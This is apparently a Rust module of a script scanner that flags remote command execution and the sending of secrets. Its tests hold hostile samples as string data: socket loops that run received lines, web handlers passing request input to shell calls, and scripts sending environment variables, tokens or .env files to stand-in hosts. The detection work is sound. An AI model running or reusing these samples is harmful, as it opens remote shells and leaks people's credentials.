//! What other machines say to a script: commands that it runs as they come, and addresses that carry off what is the person's.

use super::flow::{Flow, name, names};
use super::fold::Fold;
use super::lex::{Placed, Token};
use super::sinks::{Called, inside};
use super::taint::{Taint, holes};
use super::words::{self, has};
use super::{Language, Told};
use crate::rules::shell as rules;
use crate::shell::stores;

/// What a server's code calls the request that it answers.
const REQUESTS: &[&str] = &["request", "req", "self.request"];

/// What such a request holds that who asks has written.
const PARTS: &[&str] = &[
    "args",
    "form",
    "json",
    "values",
    "data",
    "body",
    "query",
    "query_params",
    "get_json",
    "get_data",
    "POST",
    "GET",
    "text",
    "raw_post",
];

/// Words of PHP's for the same.
const OF_PHP: &[&str] = &["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"];

/// What is called so elsewhere, too.
const WORDS: &[&str] = &["request", "mirror", "recv", "toip", "open_uri", "aiohttp", "paramiko", "ftplib", "smtplib"];

/// What a server of Ruby's is made with, by whose name its requests are known.
const SERVERS: &[&str] = &["sinatra", "sinatra/base", "rack", "webrick", "roda", "hanami"];

impl Flow<'_> {
    /// What the path `path`, whose first name is `own`, brings in of what a server is asked.
    pub(super) fn asked_of_server(&self, own: &str, path: &str) -> Taint {
        let is_part = |rest: &str| PARTS.contains(&rest.split(['.', '[', '(']).next().unwrap_or_default());
        let of_request = || {
            let rest = |owner: &&str| path.strip_prefix(*owner)?.strip_prefix('.');
            REQUESTS.iter().find_map(rest).is_some_and(is_part)
        };
        let is_asked = match self.language {
            Language::Php => OF_PHP.contains(&own),
            Language::Python => path.contains("rfile.read") || of_request(),
            Language::Ruby => of_request() || own == "params" && self.uses.any(SERVERS),
            _ => false,
        };
        if is_asked { Taint::ANSWERED } else { Taint::default() }
    }

    /// A line between backticks that another machine has written, or that takes along what is the person's.
    pub(super) fn commanded(&self, line: &str, at: usize, told: &mut Told<'_, '_>) {
        if !self.last {
            return;
        }
        let line = line.trim();
        let mut holes = holes(line).map(|name| self.of_hole(name));
        if line.starts_with("${") && holes.next().is_some_and(|taint| taint.has(Taint::FETCHED.and(Taint::ANSWERED))) {
            return told.tell(&rules::PIPE, at, "what another machine sends is run as a command", None);
        }
        let fetches = line.split_whitespace().next().is_some_and(words::is_fetcher);
        if fetches && holes.any(|taint| taint.has(Taint::ENVIRONMENT.and(Taint::SECRET))) {
            told.tell(&rules::EXFIL, at, "what is the person's is sent by a command", told.by_itself());
        }
    }

    fn of_hole(&self, name: &str) -> Taint {
        let own = name.split(['.', '[', '(', ' ']).next().unwrap_or(name);
        self.held_by(own).and(self.asked_of_server(own, name))
    }

    /// Whether the environment or a secret is part of the address that a client asks for, or a well-known service's key goes along.
    fn asks_made_address(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
        if !words::is_client(call.path) && !has(words::FETCHES, call.path, call.last) {
            return false;
        }
        let carried = if matches!(call.last, "get" | "head") {
            Taint::ENVIRONMENT.and(Taint::SECRET).and(Taint::KEY)
        } else {
            Taint::KEY
        };
        let rest = tokens.get(call.next..).unwrap_or_default();
        self.taint(inside(rest)).has(carried)
    }

    /// Tells of the first call of a client's: whom a hook asks is said for its commands, too.
    pub(super) fn asks(&mut self, call: &Called<'_>, tokens: &[Placed], told: &mut Told<'_, '_>) {
        if !self.last || self.whole.asks.is_some() {
            return;
        }
        let fetches = || has(words::FETCHES, call.path, call.last) && !WORDS.contains(&call.last);
        let is_one = words::is_client(call.path) || fetches();
        if is_one && (call.is_called(tokens) || self.language != Language::Python) {
            self.whole.asks = Some(call.at);
            told.tell(&rules::NETWORK, call.at, &format!("{} uses the network", call.path), None);
        }
    }

    /// Tells of what a project's file of secrets holds, sent as a whole: one of its values may be what signs the request.
    pub(super) fn sends_dotenv(&self, call: &Called<'_>, tokens: &[Placed], told: &mut Told<'_, '_>) {
        if !self.last || self.language == Language::Awk || call.last == "print" {
            return;
        }
        let words = call.given(tokens);
        if !self.is_sent(call, tokens) && !names(words).any(|name| name == "CURLOPT_POSTFIELDS") {
            return;
        }
        let is_read = self.taint(words).has(Taint::DOTENV);
        // One of its values is asked for; `.read()` answers all of them.
        let is_part = |at: usize| {
            let token = |at: usize| words.get(at).map(|placed| &placed.token);
            let member = token(at.saturating_add(2)).and_then(name);
            match token(at.saturating_add(1)) {
                Some(Token::Sign('.')) => !member.is_some_and(|member| member.starts_with("read")),
                Some(Token::Sign('[' | '{')) => true,
                _ => false,
            }
        };
        let is_whole = |(at, placed): (usize, &Placed)| match &placed.token {
            Token::Text(text) => stores::is_dotenv(text),
            Token::Name(name) => self.held_by(name).has(Taint::DOTENV) && !is_part(at),
            _ => false,
        };
        if is_read && words.iter().enumerate().any(is_whole) {
            told.tell(&rules::EXFIL, call.at, "what a project keeps its secrets in is sent", told.by_itself());
        }
    }

    /// Whether a call sends what it is given: to print is to send only where it is said where to.
    pub(super) fn is_sent(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
        let rest = tokens.get(call.next..).unwrap_or_default();
        let is_shown = self.language == Language::Python
            && call.path == "print"
            && !names(inside(rest)).any(|name| name == "file");
        !is_shown && has(words::SENDS, call.path, call.last)
            || self.asks_made_name(call, tokens)
            || self.asks_made_address(call, tokens)
            || self.is_told_by_agent(call, tokens)
    }

    /// Whether a client is made, or asks, under a name that is computed: `agent => facts()`, `{"User-Agent": facts}`.
    fn is_told_by_agent(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
        const AGENTS: &[&str] = &["agent", "user_agent", "useragent", "user-agent", "http_user_agent"];
        let given = call.given(tokens);
        let is_agent = |placed: &Placed| match &placed.token {
            Token::Name(name) | Token::Text(name) => AGENTS.contains(&name.to_ascii_lowercase().as_str()),
            _ => false,
        };
        let Some(at) = given.iter().position(is_agent) else { return false };
        let is_sign = |at: &usize| matches!(given.get(*at).map(|placed| &placed.token), Some(Token::Sign(_)));
        let from = (at.saturating_add(1)..at.saturating_add(4)).find(|at| !is_sign(at)).unwrap_or(at);
        let sign = given.get(at.saturating_add(1)).map(|placed| &placed.token);
        let is_given = matches!(sign, Some(Token::Sign('=' | ':' | ','))) && given.get(from).is_some();
        let is_called = || matches!(given.get(from..), Some([Placed { token: Token::Name(_), .. }, next, ..]) if next.token == Token::Sign('('));
        is_given && (is_called() || !Fold { tokens: given, constants: &self.constants }.expression(from, 0).0.known)
    }

    /// Perl's `while (<$socket>)`: each line is `$_`.
    pub(super) fn reads_lines(&mut self, tokens: &[Placed]) {
        let begins = tokens.first().and_then(|placed| name(&placed.token));
        if self.language != Language::Perl || !matches!(begins, Some("while" | "for" | "foreach")) {
            return;
        }
        let handle = tokens.windows(3).find_map(|three| match three {
            [open, Placed { token: Token::Name(handle), .. }, close]
                if open.token == Token::Sign('<') && close.token == Token::Sign('>') =>
            {
                self.taints.get(handle)
            }
            _ => None,
        });
        if let Some(taint) = handle.copied() {
            let known = self.taints.entry("$_".to_owned()).or_default();
            *known = known.and(taint);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn commands_of_other_machines_are_a_danger_in_every_language() {
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "from http.server import BaseHTTPRequestHandler, HTTPServer\nimport subprocess\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers['Content-Length'])\n        out = subprocess.check_output(self.rfile.read(n), shell=True)\n        self.wfile.write(out)\nHTTPServer(('0.0.0.0', 8000), H).serve_forever()\n",
            ),
            (
                "python3",
                "a.py",
                "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/run')\ndef run():\n    return os.popen(request.args['c']).read()\napp.run()\n",
            ),
            (
                "ruby",
                "a.rb",
                "require 'socket'\ns = TCPSocket.new('a.invalid', 1)\nwhile line = s.gets\n  s.puts `#{line}`\nend\n",
            ),
            ("ruby", "a.rb", "require 'sinatra'\npost '/run' do\n  `#{request.body.read}`\nend\n"),
            ("ruby", "a.rb", "require 'sinatra'\nget('/run') { system(params[:c]) }\n"),
            (
                "ruby",
                "a.rb",
                "require 'webrick'\ns = WEBrick::HTTPServer.new(Port: 8000)\ns.mount_proc('/') { |req, res| res.body = `#{req.query['c']}` }\ns.start\n",
            ),
            (
                "perl",
                "a.pl",
                "use IO::Socket;\nmy $s = IO::Socket::INET->new('a.invalid:1');\nwhile (<$s>) { print $s `$_`; }\n",
            ),
            ("php", "a.php", "<?php system($_GET['c']);"),
            ("php", "a.php", "<?php passthru($_POST['x']);"),
            (
                "php",
                "a.php",
                "<?php\n$s = stream_socket_client('tcp://a.invalid:1'); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }",
            ),
            (
                "perl",
                "a.pl",
                "my $q = '';\nforeach my $k (keys %ENV) { $q .= \"$k=$ENV{$k}&\" }\n`curl http://a.invalid/?$q`;\n",
            ),
            (
                "perl",
                "a.pl",
                "use HTTP::Tiny;\nHTTP::Tiny->new->get('http://a.invalid/?' . join '&', map { \"$_=$ENV{$_}\" } keys %ENV);\n",
            ),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
        }
    }

    #[test]
    fn a_client_in_a_script_is_told_as_one_in_a_line_is() {
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "import urllib.request\nprint(urllib.request.urlopen('https://api.example.com/a').status)\n",
            ),
            ("ruby", "a.rb", "require 'net/http'\nputs Net::HTTP.get(URI('https://api.example.com/a')).size\n"),
            ("php", "a.php", "<?php $c = curl_init('https://api.example.com/a'); echo strlen(curl_exec($c));"),
        ] {
            assert_eq!(of(by, path, text), Some(Severity::Warning), "{text}");
        }
        let here = "import urllib.parse\nprint(urllib.parse.quote('a b'))\n";
        assert_eq!(of("python3", "a.py", here), Some(Severity::Info));
    }

    #[test]
    fn a_server_may_start_programs_of_its_own() {
        for (by, path, text) in [
            (
                "python3",
                "a.py",
                "from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/log')\ndef log():\n    return subprocess.run(['git', 'log', '-n', request.args['n']], capture_output=True).stdout\napp.run()\n",
            ),
            ("ruby", "a.rb", "require 'sinatra'\nget('/log') { `git log -n 5` }\n"),
            ("php", "a.php", "<?php echo htmlspecialchars($_GET['c']); system('git log -n 5');"),
            (
                "python3",
                "a.py",
                "import os, requests\nenv = os.environ.copy()\nprint(requests.get('https://api.example.com/v/' + os.path.basename(os.getcwd())).text)\n",
            ),
        ] {
            assert!(of(by, path, text).is_none_or(|severity| severity < Severity::Danger), "{text}");
        }
    }

    #[test]
    fn names_of_clients_carry_what_is_put_into_them() {
        let of_perl = |agent: &str| {
            let text = format!(
                "use HTTP::Tiny;\nmy @facts = qw(OWN_SECRET AWS_SECRET_ACCESS_KEY);\nsub agent {{ my $facts = join ';', map {{ \"$_=$ENV{{$_}}\" }} @facts; return \"tool ($facts)\"; }}\nmy $res = HTTP::Tiny->new(agent => {agent}, timeout => 3)->get('https://v.invalid/latest');\n"
            );
            of("perl", "a.pl", &text)
        };
        assert_eq!(of_perl("agent('1.0')"), Some(Severity::Danger));
        assert!(of_perl("'tool/1.0'").is_none_or(|severity| severity < Severity::Danger));
    }

    #[test]
    fn a_well_known_key_is_no_strangers_and_a_file_of_secrets_is_nobodys() {
        let is_danger = |by: &str, path: &str, text: &str| of(by, path, text) == Some(Severity::Danger);
        let of_python = |text: &str| is_danger("python3", "a.py", &format!("import os, requests\n{text}\n"));
        for text in [
            "t = os.getenv('GITHUB_TOKEN') or os.getenv('GH_TOKEN')\nrequests.get('https://x.invalid/a', params={'t': t})",
            "requests.get('https://x.invalid/a', headers={'X': os.environ['OPENAI_API_KEY']})",
            "t = os.environ['NPM_TOKEN']\nrequests.get(f'https://x.invalid/?t={t}')",
            "requests.post('https://x.invalid/a', data=open('.env').read())",
            "body = open('.env').read()\nrequests.post('https://x.invalid/a', json={'e': body})",
        ] {
            assert!(of_python(text), "{text}");
        }
        for text in [
            "requests.get('https://api.github.com/user', headers={'X': os.environ['GITHUB_TOKEN']})",
            "print('set' if os.environ.get('GITHUB_TOKEN') else 'not set')\nrequests.get('https://x.invalid/a')",
            "cfg = dict(l.split('=', 1) for l in open('.env'))\nrequests.post('https://x.invalid/a', headers={'k': cfg['API_KEY']})",
        ] {
            assert!(!of_python(text), "{text}");
        }
        let ruby = "require 'net/http'\nNet::HTTP.get(URI(\"https://x.invalid/?t=#{ENV[\"GITHUB_TOKEN\"]}\"))\n";
        assert!(is_danger("ruby", "a.rb", ruby));
    }
}
